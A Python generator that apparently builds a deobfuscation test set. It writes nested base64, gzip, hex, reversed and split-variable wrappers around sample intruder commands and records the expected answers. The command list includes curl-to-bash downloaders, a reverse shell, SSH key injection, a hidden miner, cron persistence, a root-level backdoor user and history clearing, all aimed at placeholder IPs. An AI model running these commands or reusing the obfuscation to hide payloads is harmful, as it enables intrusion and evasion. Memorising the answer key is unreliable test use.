"""Builds obfuscated shell one-liners (nested wrapper layers) as an intruder's droppers look, and the
expected innermost commands and layer lists."""
import base64
import gzip
import os
import random

CMDS = [
    "curl -fsSL http://198.51.100.{n}/k.sh | bash",
    "wget -q -O /tmp/.x http://203.0.113.{n}/x && chmod +x /tmp/.x && /tmp/.x",
    "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{w} root@x' >> /root/.ssh/authorized_keys",
    "nohup /dev/shm/.{w} -o pool.example.net:{n}443 >/dev/null 2>&1 &",
    "(crontab -l 2>/dev/null; echo '*/5 * * * * curl -s http://198.51.100.{n}/c | sh') | crontab -",
    "useradd -o -u 0 -g 0 -M -s /bin/bash {w} && echo '{w}:P@ss{n}' | chpasswd",
    "bash -i >& /dev/tcp/198.51.100.{n}/4444 0>&1",
    "python3 -c 'import socket,os;s=socket.socket();s.connect((\"203.0.113.{n}\",9001))'",
    "iptables -I INPUT -s 198.51.100.{n} -j ACCEPT; history -c",
]


def wrap(r, s, allowed):
    kinds = ["b64-eval", "b64-pipe", "printf-hex", "gz-b64"]
    if "'" not in s and "\\" not in s:
        kinds += ["rev", "split"]
    k = r.choice([x for x in kinds if x in allowed] or ["b64-eval"])
    if k == "b64-eval":
        return k, f"eval \"$(echo '{base64.b64encode(s.encode()).decode()}' | base64 -d)\""
    if k == "b64-pipe":
        return k, f"echo '{base64.b64encode(s.encode()).decode()}' | base64 --decode | {r.choice(['bash', 'sh'])}"
    if k == "printf-hex":
        return k, "bash -c \"$(printf '" + "".join("\\x%02x" % b for b in s.encode()) + "')\""
    if k == "gz-b64":
        return k, f"eval \"$(echo '{base64.b64encode(gzip.compress(s.encode(), mtime=0)).decode()}' | base64 -d | gunzip)\""
    if k == "rev":
        return k, f"echo '{s[::-1]}' | rev | {r.choice(['bash', 'sh'])}"
    n = r.randint(2, 4)
    cuts = sorted(r.sample(range(1, len(s)), n - 1))
    parts = [s[i:j] for i, j in zip([0] + cuts, cuts + [len(s)])]
    names = r.sample(["a", "b", "c", "d", "x", "y", "z", "_q", "p1"], n)
    order = list(range(n))
    r.shuffle(order)
    assigns = ";".join(f"{names[i]}='{parts[i]}'" for i in order)
    return k, assigns + ";eval \"" + "".join("$" + v for v in names) + "\""


def build(seed, out):
    r = random.Random(seed)
    os.makedirs(out, exist_ok=True)
    word = lambda: "".join(r.choice("abcdefghkmnprstuvwxz") for _ in range(r.randint(4, 7)))  # noqa: E731
    exp = []
    allk = ["b64-eval", "b64-pipe", "printf-hex", "gz-b64", "rev", "split"]
    for i in range(14):
        cmd = r.choice(CMDS).format(n=r.randint(2, 250), w=word())
        s, layers = cmd, []
        for _ in range(r.randint(1, 5)):
            k, s = wrap(r, s, allk)
            layers.append(k)
        name = f"{i:02d}-{word()}.sh"
        with open(os.path.join(out, name), "w") as f:
            f.write(s + "\n")
        exp.append({"file": name, "command": cmd, "layers": layers[::-1]})
    return exp
